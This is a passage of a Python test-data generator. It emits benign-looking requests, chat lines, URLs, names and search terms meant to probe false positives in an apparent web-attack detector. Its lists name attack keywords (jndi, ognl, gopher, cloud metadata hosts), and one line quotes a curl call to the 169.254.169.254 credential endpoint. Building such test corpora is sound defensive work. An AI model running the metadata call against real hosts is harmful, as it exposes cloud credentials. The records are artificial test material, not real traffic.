    "repeat() with a huge count threw RangeError: Invalid string length",
    "new Array(1e6) preallocation made the benchmark faster",
    "Infinity is a valid JS number, JSON can't represent it though",
    "the XML import expects <user><name>..</name></user> per record",
    "the SOAP envelope from the partner has a WS-Security header",
    "the Java class names in the stack trace point to the Jackson deserializer",
    "org.apache.commons.io.IOUtils is the only commons lib left in the project",
    "java.lang.OutOfMemoryError in the batch job again, bumping -Xmx",
    "java.io.File vs java.nio.file.Path, please use Path in new code",
    "who owns the pdf renderer? it shells out via child_process and times out on big invoices",
    "the Slack bot's /deploy command calls the pipeline API, no exec on the bot host",
    "I wrote `const { spawn } = require('node:child_process')` in the RFC, just as an example",
    "process.exitCode = 1 is nicer than process.exit(1) in the CLI",
    "the Function.prototype.bind polyfill is gone from the bundle",
    "the this.constructor.name trick for logging class names breaks after minification",
    "Object.assign({}, defaults, opts) merges the config, no deep merge needed",
    "the JSON schema rejects unknown keys now, including anything like __proto__",
    "lodash 4.17.21 is pinned, the merge fix is in",
    "our Rails app renders ERB views, the API part is jbuilder",
    "send(:method_name) in the serializer is metaprogramming we want to delete",
    "the Sidekiq job shells out to ImageMagick via Open3, with an argument array",
    "instance_eval in the DSL is why the config file reads so nicely",
    "mod_perl is gone, the last CGI is now a tiny Go service",
    "perl's taint mode caught the unchecked filename, nice",
    "the data: URI scheme is blocked in our CSP except for img-src",
    "the PHP wiki uses data:image/svg+xml for the logo, that's fine",
    "curl http://169.254.169.254/latest/meta-data/ from your laptop won't work, it's only inside EC2",
    "our VPN hands out 10.8.0.0/24, so the office printer is unreachable from home",
    "the health check hits http://127.0.0.1:9000/healthz inside the container",
    "the load balancer's private IP changed, update the allowlist to 172.31.5.17",
    "Java 21's ProcessHandle API gives us the child PIDs for the watchdog",
    "the Runtime tab in the profiler shows GC pauses under 10ms",
    "the JVM flag -Djdk.serialFilter=!* is on all services now",
    "getRuntime().totalMemory() is what the dashboard graphs",
    "the magic bytes check in the upload service rejects renamed executables",
    "JSF apps store the ViewState client side unless you configure server state",
    "the Struts upgrade ticket is closed, the app was retired instead",
    "Jackson's activateDefaultTyping is forbidden by our ArchUnit rules",
    "log4j2.formatMsgNoLookups=true was the stopgap in December 2021",
    "the Tomcat manager app is removed from every image",
    "we upload .jsp files only through the CI pipeline, never through the web",
    "Freemarker's new_builtin_class_resolver is set to SAFER_RESOLVER",
    "the Jinja sandbox environment is used for customer-defined email templates",
    "Twig's sandbox extension limits the filters customers can use",
    "Velocity 2.x with SecureUberspector for the report templates",
    "Thymeleaf 3.1 blocks the T() operator in expressions by default",
    "the Handlebars templates are precompiled at build time",
    "Razor views compile on build since .NET 6, runtime compilation is off",
]

PUBLIC_URLS = [
    "https://nodejs.org/api/child_process.html",
    "https://nodejs.org/api/vm.html",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Basics_of_HTTP/Data_URLs",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/en/java/javase/17/docs/api/java.base/java/io/ObjectInputStream.html",
    "https://docs.oracle.com/javase/tutorial/reflect/index.html",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://commons.apache.org/proper/commons-collections/",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://tomcat.apache.org/tomcat-9.0-doc/jasper-howto.html",
    "https://github.com/FasterXML/jackson-databind",
    "https://x-stream.github.io/security.html",
    "https://struts.apache.org/security/",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/templates.html",
    "https://freemarker.apache.org/docs/dgui_quickstart_template.html",
    "https://velocity.apache.org/engine/2.3/user-guide.html",
    "https://www.thymeleaf.org/doc/tutorials/3.1/usingthymeleaf.html",
    "https://ruby-doc.org/3.3.0/Kernel.html",
    "https://ruby-doc.org/3.3.0/exts/json/JSON.html",
    "https://perldoc.perl.org/functions/open",
    "https://perldoc.perl.org/perlsec",
    "https://handlebarsjs.com/guide/",
    "https://pugjs.org/api/getting-started.html",
    "https://ejs.co/#docs",
    "https://www.makotemplates.org/",
    "https://learn.microsoft.com/en-us/aspnet/core/mvc/views/razor",
    "https://www.smarty.net/docs/en/",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://learn.microsoft.com/en-us/azure/virtual-machines/instance-metadata-service",
    "https://owasp.org/www-community/attacks/Server_Side_Request_Forgery",
    "https://portswigger.net/web-security/server-side-template-injection",
    "https://www.php.net/manual/en/wrappers.data.php",
    "https://rubyonrails.org/",
    "https://metacpan.org/pod/CGI",
    "https://github.com/acme/templates/blob/main/emails/welcome.html.j2",
    "https://github.com/acme/api/blob/main/src/main/java/com/acme/Runtime.java",
    "https://cdn.example.org/avatars/ann.png",
    "https://status.example.com/incidents/2024-06-01",
    "https://example.com/blog/java-17-process-api",
    "https://example.com/search?q=prototype+pattern",
    "https://example.org/docs/templates#variables",
    "https://8.8.8.8/",
    "https://1.1.1.1/dns-query",
    "https://www.example.co.uk/shop/item?id=127&color=blue",
    "https://jobs.example.com/java-developer-berlin",
    "https://meetup.example.org/nodejs-vienna/events/301",
    "https://api.example.com/v2/metadata/regions",
]

PROSE = [
    "Runtime Solutions GmbH, Invalidenstrasse 12, Berlin",
    "Process Builder Inc., 44 Market Street, San Francisco",
    "Constructor Group Ltd",
    "Prototype Labs, Suite 4, 10 Main Road",
    "Java Roastery Coffee, Kaffeegasse 3",
    "Ruby Martinez, account manager",
    "Perl Harbor Consulting",
    "Jenkins, Thomas",
    "class of 2019 reunion list",
    "spawn of the new process for onboarding",
    "metadata review for the photo archive",
    "template for the quarterly newsletter",
    "data protection officer contact",
    "system administrator on call",
    "exec summary Q3",
    "Kernel team offsite",
    "loader dock access for the delivery",
    "file import of 1,200 users from the old CRM",
    "serialization of the order export failed on line 42",
    "invoke the escalation procedure if the SLA is breached",
    "method of payment: invoice",
    "request for a new laptop, Java development",
    "upload of the signed contract (pdf)",
    "lookup of the customer number 10042",
    "the Velocity team meeting notes",
    "Handlebar moustache grooming kit (gift list)",
    "Pug owners club newsletter",
    "Twig & Branch florists, 7 Garden Lane",
    "Mako shark documentary night",
    "Razor blade subscription cancellation",
    "Smarty Pants Tutoring",
    "Jinja bar reservations for the team dinner",
    "Thyme Leaf restaurant booking, 7 pm",
    "Freemarker Market stall 12",
    "Erb family, 12 Oak Street",
    "Ejs Transport AB",
    "new employee: Ana Process, Finance",
    "while true, the contract is still under review",
    "for the record, the meeting is at 10.0.0 central time",
    "the room 169 on the 2nd floor",
    "phone: +1 (555) 0127-001",
    "IP phone 10.20.30.40 in the lobby needs a reboot",
    "order 2130706433 looks wrong, please check",
    "serial number ACED-0005-XY",
    "ticket rO0AB12 was closed yesterday",
    "Dear team, ${name} placeholders in the old letter template were not filled",
    "price {{price}} still shows in the PDF, template bug",
    "Hello <%= name %> appears in the welcome email, template not rendered",
    "the class loader for the kiosk app",
    "eval meeting with the vendor on Tuesday",
    "system update scheduled for Sunday 2 am",
    "data:image/png is the format of the scanned badge",
    "java course budget approval",
    "Node.js training for the frontend team",
    "Ruby on Rails migration plan",
    "perl scripts inventory",
    "SSRF training slides",
    "template injection workshop sign-up",
    "cloud metadata audit checklist",
    "prototype pollution fix verified by QA",
    "infinite loop in the kiosk, restarted it",
    "the JSP migration is 80% done",
    "log4j inventory complete, no vulnerable versions",
    "deserialization review of the partner API",
    "magic bytes of the uploaded file did not match its extension",
    "Base64 encoded attachment could not be opened",
    "upload: resume_jsp_developer.pdf",
    "search for users named Class",
    "search: Process Engineering department",
    "people in Runtime team",
    "John Exec, Sales",
    "Maria Eval, Legal",
    "Sam Spawn, Support",
    "Lee Require, Engineering",
    "Pat Import, Logistics",
    "Chris Constructor, Facilities",
    "Alex Proto, Marketing",
    "Dana Kernel, IT",
    "Jordan Velocity, Sales",
    "Taylor Template, Design",
]

SEARCHES = [
    "java developer", "node.js", "ruby on rails", "perl", "template designer", "Runtime team", "process engineer",
    "class teacher", "prototype designer", "constructor", "metadata librarian", "data scientist", "system admin",
    "jinja", "twig", "freemarker", "velocity", "thymeleaf", "erb", "smarty", "handlebars", "pug", "ejs", "mako",
    "razor", "spring boot", "log4j", "jndi", "serialization", "base64", "child process", "require", "eval", "spawn",
    "fork", "kernel", "popen", "system", "exec", "loader", "upload jsp", "file writer", "xml decoder",
    "invoker", "transformer", "factory", "closure", "getProperty", "magic", "viewstate", "struts", "ognl",
    "weblogic", "tomcat", "jsp", "servlet", "groovy", "jenkins", "beanshell", "nashorn", "metadata.google",
    "169.254", "127.0.0.1", "localhost", "10.0.0.1", "gopher", "dict", "data:image", "while true", "for ever",
    "infinite", "repeat", "Array", "proto", "__init__", "constructor.name", "{{name}}", "${name}", "#{name}",
    "<%= name %>", "@Model", "O'Brien", "Zoë Müller", "José García",
]

NAMES = ["Ann Runtime", "Bob Process", "Carla Class", "Dev Prototype", "Eve Constructor", "Finn Kernel",
         "Gina Spawn", "Hugo Template", "Iris Velocity", "Jon Ruby", "Kim Perl", "Lou Java", "Mia Razor",
         "Ned Twig", "Ola Pug", "Pia Mako", "Quinn Smarty", "Rosa Jinja", "Sid Handlebar", "Tia Erb"]
COMPANIES = ["Runtime Solutions GmbH", "Process Builder Inc.", "Prototype Labs", "Constructor Group",
             "Java Roastery", "Kernel Systems", "Metadata Archive Co", "Class Act Theatre", "Template Works",
             "Data URL Studio"]
TITLES = ["Senior Java Engineer", "Node.js Developer", "Ruby on Rails Developer", "Perl Maintainer",
          "Template Designer", "Cloud Engineer (AWS metadata, IAM)", "Security Engineer, SSRF and SSTI reviews",
          "JSP to React migration lead", "Build engineer (child processes, forks)", "Data engineer"]
ADDRESSES = ["12 Process Street, Leeds", "Runtime Allee 5, Vienna", "1 Prototype Way, Austin TX",
             "Class Road 9, Dublin", "Kernel Strasse 101, Zurich", "4 Constructor Lane, Bristol",
             "Java Street 169, Jakarta", "254 Metadata Ave, Seattle", "Eval Court 3, Oslo", "Spawn Road 12, Cork"]
AVATAR = ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9aw"
          "AAAABJRU5ErkJggg==")
UPLOADS = ["users.csv", "team-photo.jpg", "Java_Guide.pdf", "process-builder-notes.txt", "template.html",
           "invoice-2024-06.pdf", "avatar.png", "jsp-migration-plan.docx", "runtime-report.xlsx",
           "prototype-v2.fig", "log4j-inventory.csv", "serialization-review.md", "class-list.pdf",
           "ruby-meetup.png", "perl-scripts.zip", "metadata.json", "template_email.j2.txt", "node-notes.md",
           "resume_java_developer.pdf", "velocity-report.pdf"]
CLIENT_UAS = ["Java-http-client/17.0.2", "Apache-HttpClient/4.5.13 (Java/11.0.12)", "okhttp/4.12.0",
              "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "axios/1.6.2", "undici",
              "got (https://github.com/sindresorhus/got)",
              "Ruby", "Faraday v2.9.0", "libwww-perl/6.67", "HTTP-Tiny/0.088", "python-requests/2.31.0",
              "Jakarta Commons-HttpClient/3.1", "Java/1.8.0_392", "curl/8.5.0",
              "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 "
              "Safari/537.36"]
COOKIES = ["JSESSIONID=9F2C4B1A7D3E5F60718293A4B5C6D7E8; theme=dark",
           "_ga=GA1.2.1234567890.1718000000; lang=en-GB",
           "connect.sid=s%3AabcDEF123.xyz; tz=Europe%2FBerlin",
           "_rails_session=bm90IGEgcmVhbCBzZXNzaW9u--0a1b2c3d; locale=de",
           "CGISESSID=7d8e9f0a1b2c; view=list",
           "ASP.NET_SessionId=abcdefghijklmnopqrstuvwx; .AspNetCore.Culture=c%3Den-US%7Cuic%3Den-US",
           "PHPSESSID=q1w2e3r4t5y6u7i8o9p0; consent=necessary",
           "template=classic; sidebar=collapsed",
           "last_search=java%20developer; page_size=50",
           "prefs=%7B%22theme%22%3A%22dark%22%2C%22density%22%3A%22compact%22%7D"]


def _profiles() -> Iterator[dict[str, Any]]:
    for i, name in enumerate(NAMES):
        doc: dict[str, Any] = {"name": name, "company": COMPANIES[i % len(COMPANIES)],
                               "title": TITLES[i % len(TITLES)], "address": ADDRESSES[i % len(ADDRESSES)]}
        if i % 3 == 0:
            doc["avatar_url"] = AVATAR
        yield _json("/api/users", doc)
        yield _json(f"/api/users/{40 + i}", {"display_name": name.split()[0], "bio": f"{TITLES[i % len(TITLES)]} "
                                             f"at {COMPANIES[(i + 3) % len(COMPANIES)]}; likes {SEARCHES[i * 3]}"})


def _uploads() -> Iterator[dict[str, Any]]:
    for i, fn in enumerate(UPLOADS):
        body, ctype = _multipart([("csrf_token", "t0k3n"), ("note", f"import {i + 1}: {PROSE[i]}")], fn,
                                 "id,name\n1,Ann\n2,Bob\n")
        yield _req("POST", "/admin/users/import", body, ctype)


def _clients() -> Iterator[dict[str, Any]]:
    for i, ua in enumerate(CLIENT_UAS):
        yield _req("GET", f"/api/users?page={i + 1}", ua=ua)
        yield _req("GET", f"/api/users/{100 + i}", extra={"Referer": PUBLIC_URLS[i * 3 % len(PUBLIC_URLS)]})
    for i, cookie in enumerate(COOKIES):
        yield _req("GET", f"/api/users?page={i + 1}&per_page=25", extra={"Cookie": cookie})
        yield {**_get(f"/me/profile?tab=settings&v={i}"), "headers": {"User-Agent": UA, "Accept": "application/json",
                                                                       "Cookie": cookie}}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", q), ("page", "1")])) for q in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", q)]) for q in SEARCHES),
                            f"{NAME}-adminsearch", n, "form")
    n = yield from numbered(_profiles(), f"{NAME}-profile", n, "json")
    n = yield from numbered(_uploads(), f"{NAME}-upload", n, "multipart")
    yield from numbered(_clients(), f"{NAME}-client", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
